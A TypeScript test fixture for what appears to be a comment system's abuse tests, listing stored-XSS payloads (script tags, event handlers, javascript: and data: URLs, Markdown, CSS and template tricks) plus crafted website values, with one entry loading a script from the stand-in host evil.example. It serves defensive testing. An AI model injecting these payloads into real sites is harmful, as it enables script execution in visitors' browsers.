// Stored-XSS payloads that the abuse tests put into every reader field, into
// replies and into moderator edits. None may ever run in a reader's or a
// moderator's browser. Each calls alert/confirm/prompt or sets
// `window.__xss`, so the test notices both dialogs and silent execution.
//
// Payloads contain no NUL or other control characters (the comment rules
// refuse those with a field message; that path has its own tests).

export type XssPayload = { id: string; payload: string };

const BASE64_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

const raw: Array<[string, string]> = [
  // Script elements, plain, mixed case, broken up, closing other contexts.
  ['script', '<script>alert(1)</script>'],
  ['script-upper', '<SCRIPT>alert(1)</SCRIPT>'],
  ['script-mixed-src', '<ScRiPt src=https://evil.example/x.js></ScRiPt>'],
  ['script-fromcharcode', '<script>alert(String.fromCharCode(88,83,83))</script>'],
  ['attr-break-double', '"><script>alert(1)</script>'],
  ['attr-break-single', "'><script>alert(1)</script>"],
  ['close-textarea', '</textarea><script>alert(1)</script>'],
  ['close-title', '</title><script>alert(1)</script>'],
  ['close-script', '</script><script>alert(1)</script>'],
  ['close-bdi', '</bdi><script>window.__xss=1</script>'],
  ['nested-broken', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['double-open', '<<script>script>alert(1)<</script>/script>'],
  ['template-element', '<template><script>alert(1)</script></template>'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
  ['comment-break', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['noscript-break', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  // Event handlers.
  ['img-onerror', '<img src=x onerror=alert(1)>'],
  ['img-onerror-case', '<IMG SRC=x OnErRoR=alert(1)>'],
  ['img-onerror-quoted', '<img src="x" onerror="alert(1)">'],
  ['img-onerror-entities', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>'],
  ['img-onerror-eval', '<img src=x:alert(alt) onerror=eval(src) alt=1>'],
  ['svg-onload', '<svg onload=alert(1)>'],
  ['svg-slash-onload', '<svg/onload=alert`1`>'],
  ['body-onload', '<body onload=alert(1)>'],
  ['input-autofocus', '<input autofocus onfocus=alert(1)>'],
  ['select-autofocus', '<select autofocus onfocus=confirm(1)>'],
  ['details-ontoggle', '<details open ontoggle=alert(1)>'],
  ['video-source', '<video><source onerror=alert(1)></video>'],
  ['audio-onerror', '<audio src=x onerror=prompt(1)>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['fixed-overlay', '<x onclick=alert(1) style="position:fixed;inset:0">'],
  ['link-onclick', '<a href="https://example.com" onclick="alert(1)">ok</a>'],
  ['attr-only-double', '"onmouseover="alert(1)'],
  ['attr-only-single', "' onmouseover='alert(1)"],
  ['attr-autofocus', '" autofocus onfocus="alert(1)'],
  // SVG and MathML.
  ['svg-script', '<svg><script>alert(1)</script></svg>'],
  ['svg-animate', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg-xlink', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg-use-data', `<svg><use href="data:image/svg+xml;base64,${BASE64_SCRIPT}#x"/></svg>`],
  ['math-href', '<math href="javascript:alert(1)">CLICK</math>'],
  ['math-mxss', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  // Frames, srcdoc, objects.
  ['iframe-js', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe-srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe-srcdoc-entities', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'],
  ['object-js', '<object data="javascript:alert(1)"></object>'],
  ['object-data', `<object data="data:text/html;base64,${BASE64_SCRIPT}"></object>`],
  ['embed-data', `<embed src="data:text/html;base64,${BASE64_SCRIPT}">`],
  // javascript: and data: URLs, mixed case, entity-encoded, with whitespace tricks.
  ['a-js', '<a href="javascript:alert(1)">click</a>'],
  ['a-js-case', '<a href="JaVaScRiPt:alert(1)">click</a>'],
  ['a-js-decimal', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
  ['a-js-hex', '<a href="&#x6A;avascript:alert(1)">click</a>'],
  ['a-js-tab-entity', '<a href="java&#x09;script:alert(1)">click</a>'],
  ['a-js-newline-entity', '<a href="jav&#x0A;ascript:alert(1)">click</a>'],
  ['a-js-space', '<a href=" javascript:alert(1)">click</a>'],
  ['a-data', '<a href="data:text/html,<script>alert(1)</script>">click</a>'],
  ['a-data-case', `<a href="DATA:text/html;base64,${BASE64_SCRIPT}">click</a>`],
  ['bare-js', 'javascript:alert(1)'],
  ['bare-js-case', 'JaVaScRiPt:alert(document.domain)'],
  ['bare-js-colon-entity', 'javascript&colon;alert(1)'],
  ['bare-data', 'data:text/html,<script>alert(1)</script>'],
  ['bare-vbscript', 'vbscript:msgbox(1)'],
  ['form-action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base-href', '<base href="javascript:alert(1)//">'],
  // Markdown links and images.
  ['md-js', '[click me](javascript:alert(1))'],
  ['md-js-case', '[click](JAVASCRIPT:alert(1))'],
  ['md-data', `[x](data:text/html;base64,${BASE64_SCRIPT})`],
  ['md-image', '![img](x" onerror="alert(1))'],
  ['md-autolink', '<https://example.com/"onmouseover="alert(1)>'],
  ['md-title', '[a](https://example.com "title\\" onmouseover=alert(1)")'],
  ['md-reference', '[a][1]\n\n[1]: javascript:alert(1)'],
  // URLs that look like links and carry markup.
  ['url-script', 'https://example.com/<script>alert(1)</script>'],
  ['url-img', 'https://example.com/"><img src=x onerror=alert(1)>'],
  ['url-query-svg', 'http://example.com/?q=<svg/onload=alert(1)>'],
  ['www-attr', 'www.example.com/"onfocus="alert(1)"autofocus="'],
  ['url-fragment', 'https://example.com/#"><img src=x onerror=alert(1)>'],
  // CSS.
  ['css-url-js', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['css-expression', '<div style="width: expression(alert(1))">x</div>'],
  ['css-import', "<style>@import 'javascript:alert(1)';</style>"],
  ['css-block', '<style>*{background:url("javascript:alert(1)")}</style>'],
  ['css-link', '<link rel=stylesheet href=javascript:alert(1)>'],
  // Template injection.
  ['template-constructor', "{{constructor.constructor('alert(1)')()}}"],
  ['template-literal', '${alert(1)}'],
  ['template-mixed', '{{7*7}}<%= 7*7 %>#{7*7}'],
  ['angular-csp', '<div ng-app ng-csp><div ng-click=$event.view.alert(1)>x</div></div>'],
  // Full-width and other look-alike encodings.
  ['fullwidth-script', '＜script＞alert(1)＜/script＞'],
  ['fullwidth-js', 'ｊａｖａｓｃｒｉｐｔ：alert(1)'],
  ['escaped-unicode', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'],
  ['entity-encoded-script', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['percent-encoded-script', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['unicode-escape-handler', '<img src=x onerror=\\u0061lert(1)>'],
];

export const XSS_PAYLOADS: readonly XssPayload[] = raw.map(([id, payload]) => ({ id, payload }));

/**
 * Website values that are well-formed http(s) addresses (the website field
 * refuses everything else) but carry markup or a scheme in their path or query.
 */
export const XSS_WEBSITES: readonly string[] = [
  'https://example.com/"><script>alert(1)</script>',
  "https://example.com/'onmouseover='alert(1)",
  'http://example.com/?q=<svg/onload=alert(1)>',
  'https://example.com/#"><img/src=x/onerror=alert(1)>',
  'HTTPS://EXAMPLE.COM/javascript:alert(1)',
  'https://example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
  'http://example.com/data:text/html,<script>alert(1)</script>',
  "https://example.com/{{constructor.constructor('alert(1)')()}}",
  'https://ｅｘａｍｐｌｅ.com/',
];
